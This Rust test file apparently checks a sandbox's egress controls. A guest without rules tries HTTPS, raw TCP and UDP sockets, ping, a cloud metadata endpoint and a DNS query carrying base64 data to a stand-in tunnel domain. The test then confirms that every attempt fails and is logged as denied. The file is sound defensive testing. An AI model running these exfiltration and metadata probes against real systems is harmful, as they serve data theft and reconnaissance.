//! Step 2: a guest without any rule tries every kind of destination. What it is told, what arrives (nothing), and what
//! the audit says.

use super::{Step, audit, stage::Stage};
use crate::sites::{self, HOST_V4};
use anyhow::Result;
use serde_json::Value;

/// How an attempt has to end.
#[derive(Clone, Copy, PartialEq, Eq)]
enum End {
    /// The command fails, and not because it waited in vain.
    Fails,
    /// It prints nothing that could be an answer.
    Silent,
    /// It is told so in words: HTTP 403.
    Told,
}

/// One attempt: a name for people, a shell command, how it has to end, and the audit event that it must leave.
struct Attempt {
    what: String,
    command: String,
    end: End,
    event: Option<(&'static str, String)>,
}

fn attempt(what: &str, command: String, end: End, event: Option<(&'static str, String)>) -> Attempt {
    Attempt { what: what.into(), command, end, event }
}

/// Everything that a guest could think of.
fn attempts() -> Vec<Attempt> {
    let (api, files, evil) = (sites::API, sites::FILES, sites::EVIL);
    let curl = "curl -sS --max-time 20";
    let at = |port: u16| format!("--resolve {}:{port}:{}", api.name, api.v4);
    let named = |protocol| Some((protocol, api.name.to_owned()));
    let cidr = |protocol, address: std::net::Ipv4Addr| Some((protocol, format!("{address}/32")));
    let udp = |port: u16| {
        format!(
            "timeout 10 bash -c 'exec 3<>/dev/udp/{}/{port}; printf x >&3; timeout 2 head -c 1 <&3'",
            files.v4
        )
    };
    vec![
        attempt("HTTPS by name", format!("{curl} https://{}/", api.name), End::Fails, named("dns")),
        attempt(
            "HTTPS, name resolved elsewhere",
            format!("{curl} {} https://{}/", at(443), api.name),
            End::Fails,
            named("tls"),
        ),
        attempt(
            "HTTP, name resolved elsewhere",
            format!("{curl} -w ' %{{http_code}}' {} http://{}/", at(80), api.name),
            End::Told,
            named("http"),
        ),
        attempt(
            "TLS without a name",
            format!("{curl} -k https://{}/", evil.v4),
            End::Fails,
            cidr("tls", evil.v4),
        ),
        attempt(
            "plain TCP to an address",
            format!(
                "timeout 20 bash -c 'exec 3<>/dev/tcp/{}/7 && head -c 8 /dev/zero >&3 && printf x >&3 && head -c 9 <&3 | grep -a x'",
                files.v4
            ),
            End::Fails,
            cidr("tcp", files.v4),
        ),
        attempt("UDP", udp(7), End::Silent, cidr("udp", files.v4)),
        attempt("QUIC (UDP 443)", udp(443), End::Silent, None),
        attempt("ping", format!("ping -c 1 -W 2 {}", files.v4), End::Fails, cidr("icmp", files.v4)),
        attempt(
            "data in a DNS question",
            format!(
                "dig +time=5 +tries=1 +short @{} c2VjcmV0.tunnel.example.net TXT | grep arrived",
                sites::DNS.v4
            ),
            End::Fails,
            Some(("dns", "c2vjcmv0.tunnel.example.net".to_owned())),
        ),
        attempt("IPv6", format!("{curl} -f -g http://[{}]/", api.v6), End::Fails, None),
        attempt(
            "the host itself",
            format!("{curl} http://{HOST_V4}:7070/healthz"),
            End::Fails,
            cidr("tcp", HOST_V4),
        ),
        attempt("a private range", format!("{curl} http://10.0.0.1:8080/"), End::Fails, None),
        attempt("another metadata service", format!("{curl} http://169.254.170.2/v2"), End::Fails, None),
    ]
}

/// Step 2.
pub fn held(stage: &mut Stage<'_>, step: &mut Step) -> Result<()> {
    let (before, journal) = (stage.world().counters()?, stage.world().journal().mark());
    let attempts = attempts();
    let mut script =
        String::from("set -f; try() { out=$(eval \"$1\" 2>&1); code=$?; echo \"$code|\"$out; }\n");
    for attempt in &attempts {
        script.push_str(&format!("try \"{}\"\n", attempt.command.replace('"', "\\\"")));
    }
    let done = stage.guest()?.sh(&script)?;
    let lines: Vec<&str> = done.out.lines().collect();
    anyhow::ensure!(lines.len() == attempts.len(), "the guest's script broke off: {} {}", done.out, done.err);
    for (attempt, line) in attempts.iter().zip(lines) {
        let (code, text) = line.split_once('|').unwrap_or(("-1", line));
        let code: i32 = code.parse().unwrap_or(-1);
        let ok = match attempt.end {
            // 28: curl waited in vain; 124: `timeout` had to end it.
            End::Fails => !matches!(code, 0 | 28 | 124),
            End::Silent => text != "x",
            End::Told => text.ends_with(" 403") && text.contains(sites::API.name),
        };
        step.check(attempt.what.clone(), told(code, text), ok);
    }
    let arrived = stage.world().counters()?.since(&before);
    step.check("packets that arrived in the internet", arrived.any().to_string(), arrived.any() == 0);
    let seen = journal.entries()?;
    step.check("what its servers saw", format!("{} entries", seen.len()), seen.is_empty());
    let wanted: Vec<_> = attempts.iter().filter_map(|attempt| attempt.event.clone()).collect();
    let events = audit::wait_until(stage, |events| wanted.iter().all(|wanted| has(events, wanted)))?;
    for (protocol, target) in &wanted {
        let found = events.iter().find(|event| fits(event, protocol, target));
        let seen = found.map_or_else(|| "no event".to_owned(), audit::gist);
        let ok = found.is_some_and(|event| event["verdict"] == "denied" && event["allowed"] == false);
        step.check(format!("audit: {protocol} {target}"), seen, ok);
    }
    Ok(())
}

fn has(events: &[Value], (protocol, target): &(&str, String)) -> bool {
    events.iter().any(|event| fits(event, protocol, target))
}

fn fits(event: &Value, protocol: &str, target: &str) -> bool {
    event["protocol"] == protocol && (event["host"] == target || event["cidr"] == target)
}

/// What a person at the guest would read.
fn told(code: i32, text: &str) -> String {
    let text: String = text.chars().filter(|c| !c.is_control()).take(110).collect();
    if text.is_empty() { format!("exit {code}, no answer") } else { format!("exit {code}: {text}") }
}
